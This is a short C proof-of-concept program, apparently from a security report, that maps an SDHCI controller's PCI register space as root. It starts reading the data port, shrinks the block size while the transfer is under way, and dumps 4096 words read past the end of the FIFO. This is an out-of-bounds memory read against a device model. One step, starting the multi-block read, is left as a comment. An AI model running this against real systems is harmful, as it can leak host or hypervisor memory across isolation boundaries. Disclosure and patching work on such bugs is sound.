/* Reads behind the end of the SDHCI FIFO. Run as root, device unbound: ./poc /sys/bus/pci/devices/0000:00:04.0/resource0 */
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <sys/mman.h>

#define SDHC_BLKSIZE 0x04
#define SDHC_BDATA   0x20

int main(int argc, char **argv)
{
    int fd = open(argv[1], O_RDWR | O_SYNC);
    volatile uint8_t *regs = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);

    *(volatile uint16_t *)(regs + SDHC_BLKSIZE) = 512;
    /* ... start a multi block read here, see the mail ... */
    for (int i = 0; i < 100; i++) {
        (void)*(volatile uint32_t *)(regs + SDHC_BDATA);
    }
    *(volatile uint16_t *)(regs + SDHC_BLKSIZE) = 16;   /* lowered under way */
    for (int i = 0; i < 4096; i++) {
        printf("%08x%c", *(volatile uint32_t *)(regs + SDHC_BDATA), i % 8 == 7 ? '\n' : ' ');
    }
    return 0;
}
